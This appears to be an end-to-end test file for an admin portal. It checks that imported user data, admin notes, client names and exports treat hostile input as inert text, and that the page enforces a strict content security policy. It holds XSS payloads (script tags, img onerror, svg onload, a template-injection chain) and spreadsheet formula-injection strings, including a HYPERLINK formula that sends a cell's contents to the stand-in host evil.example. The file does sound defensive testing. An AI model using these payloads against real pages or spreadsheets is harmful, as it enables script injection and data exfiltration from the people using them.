// Owns that nothing that a file of users, a user, a caller or an admin wrote runs or breaks the page in the portal, and that exports
// keep it as text. Not the escaping of messages: test/deliver.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { promisify } from 'node:util';
import { SETTINGS } from '../kit/cli-process.ts';
import { CLI } from '../kit/server.ts';
import { receiver } from '../kit/webhook.ts';
import { stage } from './browser.ts';
import { adminPortal, contactOf, goTo, openUser, rowsOf, signedInUser, submit, told, type Portal } from './portal.ts';

/** A package of the server, which is read as its own code finds it. */
const ofServer = createRequire(new URL('../../server/package.json', import.meta.url));
const { parse } = ofServer('csv-parse/sync') as { parse(text: string, options: object): unknown };
type Records = readonly Readonly<Record<string, string>>[];

const folder = mkdtempSync(join(tmpdir(), 'contact-change-hostile-'));
const hook = await receiver();
after(async () => {
  await hook.close();
  rmSync(folder, { recursive: true, force: true });
});
const DATABASE = {
  DATABASE_URL: `sqlite:${join(folder, 'server.db')}`,
  SECRET_KEYS_FILE: join(folder, 'keys'),
};
writeFileSync(DATABASE.SECRET_KEYS_FILE, `k1:${randomBytes(32).toString('base64url')}\n`, { mode: 0o600 });

/** Each runs, calls out, or computes, where it is taken for more than text. */
const SCRIPT = `<img src=x onerror=alert(1)>`;
const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
const LONG = 'W'.repeat(180);
const NAMES = [
  SCRIPT,
  FORMULA,
  `"><script>alert(2)</script>`,
  `\${alert(3)}{{constructor.constructor('alert(4)')()}}`,
  `javascript:alert(5)//`,
  `</textarea></style><svg onload=alert(6)>`,
  // A name that turns the direction of what follows, and one that has no end.
  `\u202Egnp.exe\u202C`,
  LONG,
];
/** Addresses that the syntax allows: one begins as a formula, one is as long as one can be. */
const addressOf = (n: number): string => `=1+1|cmd'${n}@hostile.example`;
const LONG_ADDRESS = `${'l'.repeat(64)}@${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(50)}.example`;

const USERS = [
  ...NAMES.map((name, n) => ({
    sub: `${n}${name}`,
    userName: name,
    externalId: name,
    contacts: [{ kind: 'email', value: addressOf(n), type: name.slice(0, 64), verified: true, primary: true }],
  })),
  { sub: 'longest', contacts: [{ kind: 'email', value: LONG_ADDRESS, verified: true, primary: true }] },
];

/** Runs a command of the command line on the database of the portal. */
async function command(...args: readonly string[]): Promise<void> {
  const env = { PATH: process.env['PATH'], ...SETTINGS, ...DATABASE };
  await promisify(execFile)(process.execPath, [CLI, ...args], { cwd: folder, env });
}

async function importUsers(): Promise<void> {
  const file = join(folder, 'in.ndjson');
  writeFileSync(file, USERS.map((user) => JSON.stringify(user)).join('\n'));
  await command('import', file);
}

const on = stage(
  {
    ...DATABASE,
    ADMIN_ROLES: 'verifier=roles:verifier',
    WEBHOOK_URL: hook.webhook.url,
    WEBHOOK_SECRET: hook.webhook.secret ?? '',
  },
  importUsers,
);

/** Whether the page is as wide as its window: a long value wraps, and pushes nothing out. */
async function fits({ page }: Portal): Promise<boolean> {
  for (const width of [320, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    if (await page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth))
      return false;
  }
  return true;
}

/** How many elements of the page were text in a value. */
const injected = ({ page }: Portal): Promise<number> => page.locator('img, script:not([src]), svg[onload]').count();

const tab = ({ page }: Portal, name: string) =>
  page.getByRole('navigation', { name: 'About this user' }).getByRole('link', { name }).click();

/** Searches for one user, and opens it. */
async function openOne(portal: Portal, value: string): Promise<void> {
  const { page } = portal;
  await goTo(portal, 'Users');
  await page.getByLabel('Search').fill(value);
  const row = rowsOf(portal).filter({ hasText: value });
  await row.waitFor();
  assert.ok(await fits(portal), `the list with ${value}`);
  await row.getByRole('link').click();
  await contactOf(portal, value).waitFor();
}

test('what a file of users holds as scripts, formulas or endless words is text in the list and on the page of the user', async () => {
  const portal = await adminPortal(on);
  const { page, main } = portal;
  for (const [n, name] of NAMES.entries()) {
    await openOne(portal, addressOf(n));
    // The name of the user, the external id, the type of the contact and the sign-in, each as it was given.
    const shown = await main.locator('bdi').allTextContents();
    const times = (text: string): number => shown.filter((each) => each === text).length;
    assert.ok(times(name) >= 3 && times(`${n}${name}`) === 1, `${name} in ${JSON.stringify(shown)}`);
    assert.ok(await fits(portal), `the page of ${name}`);
    await goTo(portal, 'Users');
    const row = rowsOf(portal).filter({ hasText: addressOf(n) });
    assert.equal((await row.locator('.user-name').textContent())?.trim(), name);
  }
  await openOne(portal, LONG_ADDRESS);
  assert.ok(await fits(portal), 'the page of the longest address');
  for (const name of ['Activity', 'Limits']) {
    await tab(portal, name);
    assert.ok(await fits(portal), name);
  }
  // What is searched, and what stands in the address bar, comes back as text too.
  await goTo(portal, 'Users');
  await page.getByLabel('Search').fill(SCRIPT.slice(0, 20));
  await page.getByRole('status').filter({ hasText: '1 user shown' }).waitFor();
  for (const fragment of [
    `#/users/${encodeURIComponent(SCRIPT)}`,
    `#/${encodeURIComponent(SCRIPT)}`,
    `#/messages/${encodeURIComponent(SCRIPT)}`,
  ]) {
    await page.evaluate((hash) => (location.hash = hash), fragment);
    await main.locator('.skeleton').waitFor({ state: 'detached' });
    assert.ok(await fits(portal), fragment);
  }
  assert.equal(await injected(portal), 0);
  assert.deepEqual(portal.faults, []);
});

test('the reason of an act and the name of its admin are text where they are shown: in the activity, in the approvals and in the record', async () => {
  const user = await signedInUser(on, 'reason', { preferred_username: 'reason' });
  const portal = await adminPortal(on, 'ada', { name: SCRIPT, roles: ['contacts-admin', 'verifier'] });
  const { main, dialog } = portal;
  await openUser(portal, 'reason');
  await main.getByRole('button', { name: 'Add', exact: true }).first().click();
  await dialog.getByText('Apply now, unverified').click();
  // No address may hold the signs of a tag, in quotes or without.
  await dialog.getByLabel('New email address').fill(`"<img/src=x/onerror=alert(7)>"@reason.example`);
  await submit(portal, 'Add', `${FORMULA} ${SCRIPT}`);
  await dialog.getByRole('alert').waitFor();
  await dialog.getByLabel('New email address').fill(`=2+3'{alert(8)}`.replace(/[()]/g, '') + '@reason.example');
  await submit(portal, 'Add');
  await told(portal, 'Saved.');
  const applied = contactOf(portal, '=2+3');
  await applied.getByRole('button', { name: /^Mark verified/ }).click();
  await submit(portal, 'Mark verified', `${SCRIPT} ${'W'.repeat(250)}`);
  await told(portal, 'Sent for approval');
  await tab(portal, 'Activity');
  await main.locator('.events').getByText(SCRIPT).first().waitFor();
  assert.ok(await fits(portal), 'the activity');
  await goTo(portal, 'Approvals');
  const waiting = rowsOf(portal).filter({ hasText: user.id });
  await waiting.getByText(SCRIPT, { exact: true }).waitFor();
  await waiting.getByText(`${SCRIPT} WWW`).waitFor();
  assert.ok(await fits(portal), 'the approvals');
  await goTo(portal, 'Audit log');
  await rowsOf(portal).filter({ hasText: SCRIPT }).first().waitFor();
  for (const row of await main.locator('summary').all()) await row.click();
  assert.ok(await fits(portal), 'the record');
  assert.equal(await injected(portal), 0);
  assert.deepEqual(portal.faults, []);
});

test('the name of a client that is a script is text; so is what a receiver answered', async () => {
  hook.answers(410);
  const user = await signedInUser(on, 'hooked');
  await user.send('POST', '/v1/changes', { kind: 'email', value: 'hooked@next.example' });
  const portal = await adminPortal(on);
  const { main, dialog } = portal;
  await goTo(portal, 'Clients');
  await main.getByRole('button', { name: 'New client' }).click();
  await dialog.getByLabel('Name').fill(SCRIPT);
  await dialog.getByLabel('users:read').check();
  await submit(portal, 'New client', FORMULA);
  await main.getByText(`New secret of ${SCRIPT}`).waitFor();
  assert.ok(await fits(portal), 'the new secret');
  await main.getByRole('button', { name: 'I have stored it' }).click();
  await main.locator('.entry', { hasText: SCRIPT }).waitFor();
  assert.ok(await fits(portal), 'the clients');
  await goTo(portal, 'Webhooks');
  await rowsOf(portal).filter({ hasText: 'hook-410' }).first().waitFor();
  assert.ok(await fits(portal), 'the deliveries');
  assert.equal(await injected(portal), 0);
  assert.deepEqual(portal.faults, []);
});

/** Asserts that a program which opens the file as a table finds no formula in any cell, and returns the rows. */
function tableOf(csv: string): Records {
  const rows = parse(csv, { columns: true }) as Records;
  for (const row of rows)
    for (const [column, value] of Object.entries(row))
      assert.doesNotMatch(value, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/, `${column}: ${value}`);
  return rows;
}

test('exports opened as a table have no formula and no broken row, and as lines of JSON each value as it was', async () => {
  const portal = await adminPortal(on);
  const { page, main, dialog } = portal;
  await openUser(portal, addressOf(0));
  await main.getByRole('button', { name: 'Add', exact: true }).first().click();
  await dialog.getByText('Apply now, unverified').click();
  await dialog.getByLabel('New email address').fill('exported@hostile.example');
  await submit(portal, 'Add', FORMULA);
  await told(portal, 'Saved.');
  await goTo(portal, 'Audit log');
  const exported = async (button: string): Promise<string> => {
    const download = page.waitForEvent('download');
    await main.getByRole('button', { name: button }).click();
    return readFileSync(await (await download).path(), 'utf8');
  };
  const rows = tableOf(await exported('Export CSV'));
  assert.ok(rows.length > USERS.length);
  assert.ok(rows.some(({ note }) => note === `'${FORMULA}`));
  const lines = (await exported('Export NDJSON')).trimEnd().split('\n');
  const notes = lines.map((line) => (JSON.parse(line) as { readonly note: string | null }).note);
  assert.ok(notes.includes(FORMULA));
  await main.getByRole('button', { name: 'Verify' }).click();
  await main.getByText('The audit log is intact.').waitFor();

  await command('export', join(folder, 'out.csv'), '--clear');
  const users = tableOf(readFileSync(join(folder, 'out.csv'), 'utf8'));
  for (const [n, name] of NAMES.entries()) {
    const user = users.find(({ email }) => email === `'${addressOf(n)}`) ?? assert.fail(addressOf(n));
    assert.equal(user['userName'], name === FORMULA ? `'${name}` : name);
  }
  await command('export', join(folder, 'out.ndjson'), '--clear');
  const clear = readFileSync(join(folder, 'out.ndjson'), 'utf8').trimEnd().split('\n');
  const names = clear.map((line) => (JSON.parse(line) as { readonly userName?: string }).userName);
  for (const name of NAMES) assert.ok(names.includes(name), name);
  assert.deepEqual(portal.faults, []);
});

test('the page allows no code but its own, and one Trusted Types policy', async () => {
  const answer = await fetch(`${on.demo.bffUrl}/admin`);
  const policy = answer.headers.get('content-security-policy') ?? '';
  for (const part of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types lit-html',
  ])
    assert.ok(policy.split('; ').includes(part), `${part} in ${policy}`);
  const portal = await adminPortal(on);
  const thrown = await portal.page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>text</b>';
      return 'nothing';
    } catch (error) {
      return (error as Error).name;
    }
  });
  assert.equal(thrown, 'TypeError');
});
